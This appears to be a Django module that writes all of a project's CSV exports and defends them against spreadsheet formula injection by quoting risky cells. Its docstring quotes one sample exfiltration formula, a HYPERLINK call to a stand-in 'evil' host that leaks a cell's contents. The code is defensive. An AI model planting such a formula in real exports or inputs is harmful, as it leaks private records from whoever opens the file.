"""The one CSV writer of the project. Every export goes through it.

A spreadsheet program opening a CSV file runs a cell that starts with `=`, `+`, `-` or `@` (and,
in some programs, a tab or a carriage return) as a formula: `=HYPERLINK("http://evil/?"&A2,"Hi")`
typed into a public suggestion note would run on the computer of the staff member who opens the
export. So every text cell starting with one of those characters is written with a single quote in
front (the OWASP advice): spreadsheets show the text as typed and run nothing. Numbers, written as
numbers or as plain numeric text such as "-3" or "2.5", stay numbers.

Exports hold the agency's private records, so a browser or proxy never keeps a copy
(`Cache-Control: no-store`)."""

import csv
import re
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.cache import add_never_cache_headers
from django.utils.http import content_disposition_header

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
UTF8_BOM = "\ufeff"


def safe_cell(value):
    """A cell as it may be written: numbers as they are, text that a spreadsheet would run as a
    formula behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):  # bool is an int: True, False
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    """A cell read back from a file this module wrote (or a spreadsheet saved): without the quote
    that `safe_cell` put before a formula character."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class Writer:
    """`csv.writer` with every cell made safe. `out` is a file-like object or a response."""

    def __init__(self, out):
        self._writer = csv.writer(out)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _Echo:
    def write(self, value):
        return value


def _attachment(response, filename):
    response["Content-Disposition"] = content_disposition_header(True, filename)
    add_never_cache_headers(response)
    return response


def response(filename: str, rows=(), *, bom: bool = False) -> HttpResponse:
    """A CSV attachment of `rows` (an iterable of lists), built in memory; more rows can be
    written to it with `Writer(response)`."""
    result = HttpResponse(content_type="text/csv; charset=utf-8")
    if bom:
        result.write(UTF8_BOM)  # so that spreadsheet programs read the file as UTF-8
    Writer(result).writerows(rows)
    return _attachment(result, filename)


def streaming_response(filename: str, rows, *, bom: bool = False) -> StreamingHttpResponse:
    """A CSV attachment written row by row as `rows` is read: for exports of any length."""
    writer = Writer(_Echo())

    def lines():
        if bom:
            yield UTF8_BOM
        for row in rows:
            yield writer.writerow(row)

    return _attachment(
        StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8"), filename
    )
